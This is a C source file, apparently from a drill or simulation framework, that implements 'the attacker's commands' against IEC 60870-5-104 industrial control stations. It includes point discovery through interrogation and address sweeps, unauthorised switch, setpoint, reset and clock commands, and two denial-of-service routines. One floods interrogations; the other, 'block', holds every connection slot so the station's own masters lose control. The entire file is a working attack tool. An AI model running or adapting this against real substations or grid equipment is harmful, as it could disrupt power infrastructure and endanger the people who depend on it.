/* The attacker's commands of IEC 60870-5-104: one connection each, from STARTDT to its
 * end, over the streams of yw_applet_io. */
#include "controller/applet_inner.h"

#include "controller/iec104_link.h"

#include <math.h>
#include <stdlib.h>
#include <string.h>

#define ANSWER_MS 3000
#define HOLD_MAX 64 /* connections of `block` */
#define SPAN_MAX 120000
#define COUNT_MAX 100000
#define SWEEP_MAX 512 /* addresses of one sweep */
#define POINT_ROOM 96 /* characters of one point in the output */

struct master {
    struct applet *a;
    int stream;
    bool gone;
    struct yw_iec104_link link;
    size_t in_size;
    uint8_t in[2 * YW_IEC104_APDU_MAX];
    uint8_t asdu[YW_IEC104_ASDU_MAX]; /* of the last frame */
    size_t asdu_size;
};

static int64_t now_ms(const struct master *m)
{
    return m->a->io->now(m->a->io->arg);
}

static bool put(struct master *m, const void *bytes, size_t size)
{
    m->gone = m->gone || !m->a->io->send(m->a->io->arg, m->stream, bytes, size);
    return !m->gone;
}

/* What the front of the stream says; frames that carry nothing are worked off. */
static enum yw_iec104_event take_frame(struct master *m)
{
    struct yw_iec104_apdu apdu;
    struct yw_iec104_out out = {.size = 0};
    int size = yw_iec104_frame(m->in, m->in_size, &apdu);
    if (size <= 0) {
        m->gone = m->gone || size < 0;
        return m->gone ? YW_IEC104_CLOSE : YW_IEC104_QUIET;
    }
    enum yw_iec104_event event = yw_iec104_link_take(&m->link, &apdu, now_ms(m), &out);
    if (event == YW_IEC104_ASDU) {
        m->asdu_size = apdu.asdu_size;
        memcpy(m->asdu, apdu.asdu, apdu.asdu_size);
    }
    m->in_size -= (size_t)size;
    memmove(m->in, m->in + size, m->in_size);
    m->gone = m->gone || event == YW_IEC104_CLOSE;
    if (out.size > 0)
        (void)put(m, out.bytes, out.size);
    return event;
}

/* The next thing that matters before deadline_ms; QUIET: nothing came. */
static enum yw_iec104_event await(struct master *m, int64_t deadline_ms)
{
    while (!m->gone) {
        size_t before = m->in_size;
        enum yw_iec104_event event = take_frame(m);
        if (event != YW_IEC104_QUIET)
            return event;
        if (m->in_size != before)
            continue;
        int64_t left = deadline_ms - now_ms(m);
        int got = left <= 0
                      ? 0
                      : m->a->io->receive(m->a->io->arg, m->stream, m->in + m->in_size,
                                          sizeof(m->in) - m->in_size, left);
        if (got == 0)
            return YW_IEC104_QUIET;
        m->gone = got < 0;
        m->in_size += got > 0 ? (size_t)got : 0;
    }
    return YW_IEC104_CLOSE;
}

static bool connect_to(struct master *m, struct applet *a, const char *host)
{
    struct yw_iec104_out out = {.size = 0};
    memset(m, 0, sizeof(*m));
    m->a = a;
    m->stream = a->io->open(a->io->arg, host, YW_IEC104_PORT);
    if (m->stream < 0)
        return false;
    yw_iec104_link_init(&m->link, true, now_ms(m));
    yw_iec104_link_ask(&m->link, YW_IEC104_STARTDT, now_ms(m), &out);
    return put(m, out.bytes, out.size) &&
           await(m, now_ms(m) + ANSWER_MS) == YW_IEC104_STARTED;
}

static void leave(struct master *m)
{
    if (m->stream >= 0)
        m->a->io->close(m->a->io->arg, m->stream);
}

static bool send_asdu(struct master *m, const struct yw_iec104_asdu *head,
                      const struct yw_iec104_object *object)
{
    struct yw_iec104_buf asdu;
    uint8_t bytes[YW_IEC104_APDU_MAX];
    yw_iec104_begin(&asdu, head);
    if (!yw_iec104_link_room(&m->link) || !yw_iec104_add(&asdu, object))
        return false;
    size_t size = yw_iec104_link_wrap(&m->link, asdu.bytes, asdu.size, now_ms(m), bytes);
    return put(m, bytes, size);
}

/* HOST STATION from argument 2 on; refuses by itself. */
static bool begin(struct applet *a, struct master *m, uint16_t *ret_station)
{
    uint32_t ignored = 0;
    long station = yw_applet_number(yw_applet_argument(a, 3), 65535);
    m->stream = -1;
    if (!yw_applet_address(yw_applet_argument(a, 2), &ignored) || station < 1) {
        yw_applet_refuse(a, "expected HOST STATION");
        return false;
    }
    *ret_station = (uint16_t)station;
    if (connect_to(m, a, yw_applet_argument(a, 2)))
        return true;
    yw_applet_refuse(a, m->stream < 0 ? "unreachable" : "no STARTDT confirmation");
    return false;
}

/* ---- looking ---- */

static bool say_point(struct applet *a, const struct yw_iec104_asdu *asdu,
                      const struct yw_iec104_object *object, bool first)
{
    const struct yw_iec104_shape *shape = yw_iec104_shape(asdu->type);
    if (strlen(a->out->output) + POINT_ROOM > sizeof(a->out->output))
        return false;
    yw_applet_say(a, "%s{\"ioa\":%u,\"type\":\"%s\",\"value\":%.6g,\"quality\":%u}",
                  first ? "" : ",", (unsigned)object->address,
                  shape != NULL ? shape->name : "?",
                  isfinite(object->value) ? object->value : 0, (unsigned)object->quality);
    return true;
}

/* All objects of the last ASDU, as far as there is room; how many. */
static unsigned say_objects(struct applet *a, const struct yw_iec104_asdu *asdu,
                            unsigned told, bool *ret_more)
{
    struct yw_iec104_object object;
    unsigned said = 0;
    for (unsigned i = 0; yw_iec104_object(asdu, i, &object); i++) {
        if (say_point(a, asdu, &object, told + said == 0))
            said++;
        else
            *ret_more = true;
    }
    return said;
}

static void interrogate(struct applet *a)
{
    struct master m;
    uint16_t station = 0;
    struct yw_iec104_asdu head = {.type = YW_IEC104_C_IC_NA,
                                  .cause = YW_IEC104_ACTIVATION};
    struct yw_iec104_asdu asdu;
    unsigned told = 0;
    bool more = false;
    bool ended = false;
    if (!begin(a, &m, &station)) {
        leave(&m);
        return;
    }
    head.station = station;
    int64_t deadline_ms = now_ms(&m) + ANSWER_MS;
    bool sent = send_asdu(
        &m, &head, &(struct yw_iec104_object){.qualifier = YW_IEC104_INTERROGATED});
    yw_applet_say(a, "{\"points\":[");
    while (sent && !ended && await(&m, deadline_ms) == YW_IEC104_ASDU) {
        if (!yw_iec104_read(m.asdu, m.asdu_size, &asdu))
            break;
        if (asdu.type == YW_IEC104_C_IC_NA)
            ended = asdu.negative || asdu.cause == YW_IEC104_TERMINATION;
        else if (asdu.cause == YW_IEC104_INTERROGATED)
            told += say_objects(a, &asdu, told, &more);
    }
    leave(&m);
    if (!ended || asdu.negative)
        yw_applet_refuse(a, ended ? "refused" : "no end of the interrogation");
    else
        yw_applet_say(a, "],\"more\":%s}", more ? "true" : "false");
}

/* Which addresses there are: reads each; the station says of the others that they are
 * unknown. */
static void sweep(struct applet *a)
{
    struct master m;
    struct yw_iec104_asdu asdu;
    uint16_t station = 0;
    long first = yw_applet_number(yw_applet_argument(a, 4), YW_IEC104_IOA_MAX);
    long last = yw_applet_number(yw_applet_argument(a, 5), YW_IEC104_IOA_MAX);
    unsigned told = 0;
    bool more = false;
    if (a->argc != 6 || first < 0 || last < first || last - first >= SWEEP_MAX) {
        yw_applet_refuse(a, "usage: iec104 sweep HOST STATION FIRST LAST (at most 512)");
        return;
    }
    bool good = begin(a, &m, &station);
    if (good)
        yw_applet_say(a, "{\"points\":[");
    for (long ioa = first; good && ioa <= last; ioa++) {
        const struct yw_iec104_asdu head = {
            .type = YW_IEC104_C_RD_NA, .cause = YW_IEC104_REQUESTED, .station = station};
        const struct yw_iec104_object object = {.address = (uint32_t)ioa};
        good = send_asdu(&m, &head, &object);
        bool answered = false;
        while (good && !answered) {
            good = await(&m, now_ms(&m) + ANSWER_MS) == YW_IEC104_ASDU &&
                   yw_iec104_read(m.asdu, m.asdu_size, &asdu);
            answered = good && (asdu.type == YW_IEC104_C_RD_NA ||
                                asdu.cause == YW_IEC104_REQUESTED);
        }
        if (answered && asdu.cause == YW_IEC104_REQUESTED && !asdu.negative &&
            asdu.type != YW_IEC104_C_RD_NA)
            told += say_objects(a, &asdu, told, &more);
    }
    leave(&m);
    if (good)
        yw_applet_say(a, "],\"more\":%s}", more ? "true" : "false");
    else if (a->out->code == 0)
        yw_applet_refuse(a, "no answer");
}

/* ---- acting ---- */

/* The confirmation of what was just sent; NULL: confirmed. */
static const char *confirmed(struct master *m, uint8_t type)
{
    struct yw_iec104_asdu asdu;
    int64_t deadline_ms = now_ms(m) + ANSWER_MS;
    while (await(m, deadline_ms) == YW_IEC104_ASDU) {
        if (!yw_iec104_read(m->asdu, m->asdu_size, &asdu) || asdu.type != type)
            continue;
        switch (asdu.cause) {
        case YW_IEC104_ACTIVATION_CON:
            return asdu.negative ? "refused" : NULL;
        case YW_IEC104_UNKNOWN_TYPE:
            return "unknown type";
        case YW_IEC104_UNKNOWN_CAUSE:
            return "unknown cause";
        case YW_IEC104_UNKNOWN_STATION:
            return "unknown station";
        case YW_IEC104_UNKNOWN_OBJECT:
            return "unknown object";
        default:
            break;
        }
    }
    return "no confirmation";
}

/* A select, an execute, or both on one connection. */
static void act(struct applet *a, const struct yw_iec104_asdu *like,
                struct yw_iec104_object object, bool select, bool execute)
{
    struct master m;
    struct yw_iec104_asdu head = *like;
    const char *why = NULL;
    if (!begin(a, &m, &head.station)) {
        leave(&m);
        return;
    }
    if (select) {
        object.qualifier = YW_IEC104_SELECT;
        why = send_asdu(&m, &head, &object) ? confirmed(&m, head.type) : "not sent";
    }
    if (execute && why == NULL) {
        object.qualifier = head.type == YW_IEC104_C_RP_NA ? 1 : 0;
        why = send_asdu(&m, &head, &object) ? confirmed(&m, head.type) : "not sent";
    }
    leave(&m);
    if (why != NULL)
        yw_applet_refuse(a, why);
    else
        yw_applet_say(a, "{\"ioa\":%u,\"value\":%.6g,\"done\":\"%s\"}",
                      (unsigned)object.address, object.value,
                      execute ? "executed" : "selected");
}

/* TYPE IOA VALUE from argument `at` on. */
static void command(struct applet *a, const char *type, int at, bool select, bool execute)
{
    const struct yw_iec104_shape *shape = yw_iec104_shape_named(type);
    long ioa = yw_applet_number(yw_applet_argument(a, at), YW_IEC104_IOA_MAX);
    const char *text = yw_applet_argument(a, at + 1);
    char *end = NULL;
    double value = strtod(text, &end);
    if (a->argc != at + 2 || shape == NULL || !shape->is_command || ioa < 1 ||
        end == text || *end != '\0' || !isfinite(value)) {
        yw_applet_refuse(a, "usage: iec104 command|select|operate HOST STATION TYPE IOA "
                            "VALUE | iec104 setpoint HOST STATION IOA VALUE");
        return;
    }
    const struct yw_iec104_asdu head = {.type = shape->type,
                                        .cause = YW_IEC104_ACTIVATION};
    const struct yw_iec104_object object = {.address = (uint32_t)ioa, .value = value};
    act(a, &head, object, select, execute);
}

static void reset(struct applet *a)
{
    const struct yw_iec104_asdu head = {.type = YW_IEC104_C_RP_NA,
                                        .cause = YW_IEC104_ACTIVATION};
    act(a, &head, (struct yw_iec104_object){.address = 0}, false, true);
}

static void set_clock(struct applet *a)
{
    const char *text = yw_applet_argument(a, 4);
    char *end = NULL;
    long long time_ms = strtoll(text, &end, 10);
    const struct yw_iec104_asdu head = {.type = YW_IEC104_C_CS_NA,
                                        .cause = YW_IEC104_ACTIVATION};
    if (a->argc != 5 || end == text || *end != '\0' || time_ms < 0) {
        yw_applet_refuse(a, "usage: iec104 clock HOST STATION MILLISECONDS");
        return;
    }
    act(a, &head, (struct yw_iec104_object){.time_ms = time_ms}, false, true);
}

/* ---- stopping others ---- */

/* Interrogations, one behind the other, as fast as they are answered. */
static void flood(struct applet *a)
{
    struct master m;
    uint16_t station = 0;
    long count = yw_applet_number(yw_applet_argument(a, 4), COUNT_MAX);
    long sent = 0;
    if (a->argc != 5 || count < 1) {
        yw_applet_refuse(a, "usage: iec104 flood HOST STATION COUNT");
        return;
    }
    if (!begin(a, &m, &station)) {
        leave(&m);
        return;
    }
    const struct yw_iec104_asdu head = {
        .type = YW_IEC104_C_IC_NA, .cause = YW_IEC104_ACTIVATION, .station = station};
    while (sent < count && !m.gone) {
        if (yw_iec104_link_room(&m.link)) {
            sent += send_asdu(
                &m, &head,
                &(struct yw_iec104_object){.qualifier = YW_IEC104_INTERROGATED});
        } else if (await(&m, now_ms(&m) + ANSWER_MS) == YW_IEC104_QUIET) {
            break;
        }
    }
    leave(&m);
    yw_applet_say(a, "{\"sent\":%ld,\"closed\":%s}", sent, m.gone ? "true" : "false");
}

/* Takes every place of the station and takes it again when it is thrown out: its own
 * masters find none, or lose theirs. */
static void block(struct applet *a)
{
    int streams[HOLD_MAX];
    uint32_t ignored = 0;
    const char *host = yw_applet_argument(a, 2);
    long span_ms = yw_applet_number(yw_applet_argument(a, 3), SPAN_MAX);
    long opened = 0;
    const struct yw_applet_io *io = a->io;
    uint8_t start[6];
    if (a->argc != 4 || span_ms < 1 || !yw_applet_address(host, &ignored)) {
        yw_applet_refuse(a, "usage: iec104 block HOST SPAN_MS (at most 120000)");
        return;
    }
    int64_t end_ms = yw_applet_drill_now(io) + span_ms;
    size_t size = yw_iec104_put_u(YW_IEC104_STARTDT, start);
    for (int i = 0; i < HOLD_MAX; i++)
        streams[i] = -1;
    for (int i = 0; yw_applet_drill_now(io) < end_ms; i = (i + 1) % HOLD_MAX) {
        if (streams[i] >= 0)
            io->close(io->arg, streams[i]);
        streams[i] = io->open(io->arg, host, YW_IEC104_PORT);
        if (streams[i] < 0 && opened == 0)
            break;
        if (streams[i] >= 0 && io->send(io->arg, streams[i], start, size))
            opened++;
    }
    for (int i = 0; i < HOLD_MAX; i++) {
        if (streams[i] >= 0)
            io->close(io->arg, streams[i]);
    }
    if (opened == 0)
        yw_applet_refuse(a, "unreachable");
    else
        yw_applet_say(a, "{\"opened\":%ld}", opened);
}

void yw_applet_iec104(struct applet *a)
{
    const char *verb = yw_applet_argument(a, 1);
    if (a->io->open == NULL)
        yw_applet_refuse(a, "no streams here");
    else if (strcmp(verb, "interrogate") == 0)
        interrogate(a);
    else if (strcmp(verb, "sweep") == 0)
        sweep(a);
    else if (strcmp(verb, "command") == 0)
        command(a, yw_applet_argument(a, 4), 5, false, true);
    else if (strcmp(verb, "select") == 0)
        command(a, yw_applet_argument(a, 4), 5, true, false);
    else if (strcmp(verb, "operate") == 0)
        command(a, yw_applet_argument(a, 4), 5, true, true);
    else if (strcmp(verb, "setpoint") == 0)
        command(a, "C_SE_NC_1", 4, false, true);
    else if (strcmp(verb, "reset") == 0)
        reset(a);
    else if (strcmp(verb, "clock") == 0)
        set_clock(a);
    else if (strcmp(verb, "flood") == 0)
        flood(a);
    else if (strcmp(verb, "block") == 0)
        block(a);
    else
        yw_applet_refuse(a, "usage: iec104 interrogate|sweep|command|select|operate|"
                            "setpoint|reset|clock|flood|block ...");
}
